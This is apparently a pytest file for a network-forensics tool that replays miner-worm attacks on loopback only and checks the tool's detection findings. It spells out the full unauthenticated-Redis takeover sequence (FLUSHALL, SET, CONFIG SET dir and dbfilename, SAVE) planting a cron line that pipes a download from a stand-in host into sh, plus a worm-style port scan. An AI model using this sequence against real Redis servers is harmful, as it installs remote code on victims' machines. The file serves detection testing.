"""Real loopback traffic, captured with dumpcap, through `deminer investigate`.

Two attacks miner worms run, done for real against 127.0.0.0/8 only:

* the unauthenticated-Redis takeover (FLUSHALL, SET of a cron line, CONFIG SET dir and
  dbfilename, SAVE) sent as RESP arrays from a plain socket to a real ``redis-server`` that
  this test starts on a free port, with its files under the test's tmp folder;
* a TCP connect scan of 127.0.0.2-127.0.0.101 on a few worm ports from a source address of
  its own (127.0.0.200), most of it refused.

Each capture must give exactly one finding of the rule that covers it. The tests skip when
dumpcap or redis-server is missing (``make sysdeps`` installs both) or when capturing is not
permitted here.
"""

from __future__ import annotations

import errno
import json
import re
import shutil
import socket
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from deminer.cli import main
from tests.capture import dumpcap

ATTACKER = "127.0.0.77"
SCANNER = "127.0.0.200"
SCAN_PORTS = (23, 2375, 5985)
DOCKER_API = ("127.0.0.10", 2375)  # the one victim that answers the scan
CRON = "\n\n*/1 * * * * curl -fsSL http://203.0.113.9/a.sh | sh\n\n"


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port: int = s.getsockname()[1]
        return port




def investigate(tmp_path: Path, capture: Path) -> tuple[int, list[dict[str, Any]]]:
    out = tmp_path / "findings.jsonl"
    rc = main(["investigate", str(capture), "--case", str(tmp_path / "case"), "--jsonl", str(out),
               "--quiet"])
    return rc, [json.loads(line) for line in out.read_text().splitlines()]


def resp(*args: str) -> bytes:
    """One command as a RESP array of bulk strings, as redis-cli and the worms send it."""
    out = f"*{len(args)}\r\n".encode()
    for a in args:
        raw = a.encode()
        out += b"$" + str(len(raw)).encode() + b"\r\n" + raw + b"\r\n"
    return out


@pytest.fixture
def redis_server(tmp_path: Path) -> Iterator[int]:
    """A real redis-server on a free loopback port, nothing saved unless told; killed by PID."""
    exe = shutil.which("redis-server")
    if exe is None:
        pytest.skip("redis-server is not installed (make sysdeps)")
    data = tmp_path / "redis"
    data.mkdir()
    version = subprocess.run([exe, "--version"], capture_output=True, text=True, timeout=10).stdout
    major = int(m.group(1)) if (m := re.search(r"v=(\d+)\.", version)) else 0
    port = _free_port()
    cmd = [exe, "--port", str(port), "--bind", "127.0.0.1", "--save", "", "--appendonly", "no",
           "--dir", str(data), "--daemonize", "no", "--protected-mode", "no"]
    if major >= 7:
        # Redis 7 refuses CONFIG SET dir unless allowed; allow it so the write really happens
        # (only ever into this test's tmp folder).
        cmd += ["--enable-protected-configs", "yes"]
    with (data / "redis.log").open("wb") as log:
        proc = subprocess.Popen(cmd, stdout=log, stderr=subprocess.STDOUT)
    try:
        deadline = time.monotonic() + 15
        while True:
            try:
                socket.create_connection(("127.0.0.1", port), timeout=1).close()
                break
            except OSError:
                if proc.poll() is not None or time.monotonic() > deadline:
                    pytest.skip(f"redis-server did not start: {(data / 'redis.log').read_bytes()[-300:]!r}")
                time.sleep(0.05)
        yield port
    finally:
        proc.kill()
        proc.wait()


def test_redis_cron_write_on_a_real_server(tmp_path: Path, redis_server: int) -> None:
    spool = tmp_path / "spool" / "cron"
    spool.mkdir(parents=True)
    target = f"{spool}/"
    attack = [("FLUSHALL",), ("SET", "x", CRON), ("CONFIG", "SET", "dir", target),
              ("CONFIG", "SET", "dbfilename", "root"), ("SAVE",)]
    with dumpcap(f"tcp port {redis_server}", tmp_path / "redis.pcapng") as capture, socket.socket() as s:
        s.bind((ATTACKER, 0))        # an attacker address apart from the server's
        s.settimeout(5)
        s.connect(("127.0.0.1", redis_server))
        for cmd in attack:
            s.sendall(resp(*cmd))
            assert s.recv(4096) == b"+OK\r\n", cmd
    # The real server wrote its database, cron line inside, where it was told to.
    assert CRON.strip().encode() in (spool / "root").read_bytes()

    rc, findings = investigate(tmp_path, capture)
    assert rc == 1
    (f,) = [f for f in findings if f["rule"] == "initial_access.net_redis_abuse"]
    ev = f["evidence"]
    # Network-only evidence: the host is the Redis server's address, the entity the attacker's.
    assert (f["host"], f["entity"], f["severity"]) == ("127.0.0.1", ATTACKER, "critical")
    assert (ev["destination.port"], ev["dir"], ev["dbfilename"]) == (redis_server, target, "root")
    assert ev["payload"].strip() == CRON.strip() and ev["flushall_before_payload"] is True
    assert ev["writes"] == "a cron job" and ev["commands"] == len(attack)
    assert target in f["summary"] and "curl -fsSL http://203.0.113.9/a.sh | sh" in f["summary"]


def _scan() -> dict[tuple[str, int], str]:
    """Connect-scan 127.0.0.2-127.0.0.101 from SCANNER; what each attempt found."""
    found: dict[tuple[str, int], str] = {}
    for i in range(2, 102):
        for port in SCAN_PORTS:
            dst = f"127.0.0.{i}"
            with socket.socket() as s:
                s.settimeout(0.5)
                s.bind((SCANNER, 0))
                code = s.connect_ex((dst, port))
            found[(dst, port)] = ("open" if code == 0 else
                                  "refused" if code == errno.ECONNREFUSED else "silent")
    return found


def test_connect_scan_of_loopback_is_one_fanout_finding(tmp_path: Path) -> None:
    with socket.socket() as docker:
        docker.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try:
            docker.bind(DOCKER_API)
        except OSError:
            pytest.skip(f"{DOCKER_API} is taken on this host")
        docker.listen(16)
        with dumpcap(f"host {SCANNER}", tmp_path / "scan.pcapng") as capture:
            found = _scan()
    assert found[DOCKER_API] == "open"
    refused = sum(1 for v in found.values() if v == "refused")
    opened = sorted({dst for (dst, _), v in found.items() if v == "open"},
                    key=lambda a: [int(x) for x in a.split(".")])
    assert refused > len(found) * 0.9           # most of loopback listens on nothing

    rc, findings = investigate(tmp_path, capture)
    assert rc == 1
    (f,) = [f for f in findings if f["rule"] == "lateral_movement.net_worm_fanout"]
    ev = f["evidence"]
    assert (f["host"], f["entity"], f["severity"]) == (SCANNER, SCANNER, "high")
    assert ev["ports"] == ",".join(map(str, SCAN_PORTS))
    assert (ev["victims"], ev["connections"]) == (100, len(found))
    # Refused attempts are REJ flows; the silent ones (none on loopback) would be S0.
    accepted = sum(1 for v in found.values() if v == "open")
    assert (ev["failed"], ev["established"]) == (len(found) - accepted, accepted)
    assert ev["answered_list"].split() == opened
    assert ev["victim_list"].split()[:3] == ["127.0.0.2", "127.0.0.3", "127.0.0.4"]
    assert "contacted 100 hosts on port(s) 23,2375,5985" in f["summary"]
